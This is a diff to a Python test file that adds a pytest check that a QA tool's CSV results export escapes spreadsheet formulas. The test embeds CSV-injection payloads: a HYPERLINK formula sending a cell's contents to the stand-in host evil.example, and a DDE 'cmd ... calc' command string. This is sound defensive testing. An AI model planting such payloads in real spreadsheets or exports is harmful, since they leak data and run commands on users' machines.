@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import pytest
+
 from qa.models import Answer, AnswerPassage, Citation, Highlight, Marker
 from qa.render import format_pages, render_answer, render_passage_text
 
@@ -175,3 +177,24 @@ def test_conversation_latest_first_and_share_link():
     assert 'href="/?q=first+%26+%3Cb%3E%3F"' in html
     assert f'href="{context_href(p1).replace("&", "&amp;")}"' in html
     assert "Ask a question" in render_conversation([])
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_results_csv_cells_never_start_a_formula(start):
+    """A question or id like =HYPERLINK(...) reaches the CSV as text, not as a formula (OWASP)."""
+    import csv
+    import io
+
+    from qa.questions import EvalQuestion
+    from qa.report import results_csv
+
+    evil = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    good = passage(f"{start}1+2 begins this passage.", (0, 10))
+    q = EvalQuestion(id=f"{start}cmd|' /C calc'!A0", question=evil, evidence=["nothing"], line=1)
+    a = Answer(question=evil, answered=True, passages=[good], took_ms=1.0)
+    v = {"rank": None, "highlight_ok": False, "citation_ok": None, "answered": True, "answerable": True}
+    rows = list(csv.reader(io.StringIO(results_csv([q], [a], [v]), newline="")))
+    cells = [c for c in rows[1] if c]
+    assert cells and all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
+    assert rows[1][1] == "'" + evil  # the text itself is kept, behind an apostrophe
+    assert float(rows[1][rows[0].index("took_ms")]) == 1.0  # numbers stay numbers
